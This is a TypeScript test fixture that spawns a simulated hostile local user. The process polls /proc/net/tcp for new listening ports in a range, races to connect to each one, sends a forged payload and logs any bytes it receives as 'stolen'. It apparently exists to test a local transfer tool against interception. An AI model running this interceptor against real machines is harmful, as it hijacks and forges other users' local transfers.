// Another user of this machine who wants other people's transfers: looks at the system's table of sockets all the time, and
// connects at once to each new listener in a range of ports. Half of the time it sends a forged file and leaves, else it stays.
import { nobody, type OtherProcess, startOther } from "./other-process.ts";

/** Listeners stand first in the table, so the thief reads no further than they go. */
const code = `
  const fs = require("node:fs");
  const [first, last] = args.map(Number);
  const seen = new Map();
  const buffer = Buffer.alloc(65536);
  let strikes = 0;
  function strike(port) {
    strikes += 1;
    const leaves = strikes % 2 === 0;
    const socket = net.connect({ port, host: "127.0.0.1", allowHalfOpen: true });
    socket.on("error", () => {}).on("data", (bytes) => say("stolen " + bytes.length)).on("end", () => socket.destroy());
    socket.on("connect", () => say("struck"));
    if (leaves) socket.end("forged", () => socket.destroy());
    else socket.write("forged");
  }
  function look() {
    const file = fs.openSync("/proc/net/tcp");
    let text = "";
    for (let more = true; more; ) {
      const count = fs.readSync(file, buffer, 0, buffer.length, null);
      const part = buffer.toString("latin1", 0, count);
      text += part;
      more = count > 0 && part.slice(-151).includes(" 0A ");
    }
    fs.closeSync(file);
    for (const row of text.split("\\n")) {
      const [, local = "", , state, , , , , , inode] = row.trim().split(/\\s+/);
      const port = parseInt(local.split(":")[1], 16);
      if (state !== "0A" || port < first || port > last || seen.get(port) === inode) continue;
      seen.set(port, inode);
      strike(port);
    }
    setImmediate(look);
  }
  say("looks");
  look();`;

/** Needs root. Prints `looks`, then `struck` and `stolen BYTES`. */
export const startPortStealer = (ports: { readonly first: number; readonly last: number }): OtherProcess =>
  startOther(code, [String(ports.first), String(ports.last)], nobody);
